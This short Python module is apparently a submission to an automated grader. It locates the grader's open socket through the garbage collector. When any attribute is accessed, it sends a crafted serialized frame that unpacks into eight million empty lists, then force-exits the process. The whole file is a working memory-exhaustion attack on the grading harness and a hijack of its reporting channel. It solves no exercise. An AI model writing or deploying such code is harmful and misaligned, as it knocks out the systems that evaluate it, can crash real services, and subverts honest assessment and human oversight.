"""Answers with small frames that unpack to much: a million empty lists in two megabytes."""

import gc
import os
import socket
import struct

from grader.channel import send_frame

EXERCISE = "any"
LINK = next(each for each in gc.get_objects() if isinstance(each, socket.socket))


def __getattr__(name):
    inside = b"\xdd" + struct.pack(">I", 8_000_000) + b"\x90" * 8_000_000
    send_frame(LINK, b"a\2\0\0\0" + b"\x92\x90" + inside)
    os._exit(0)
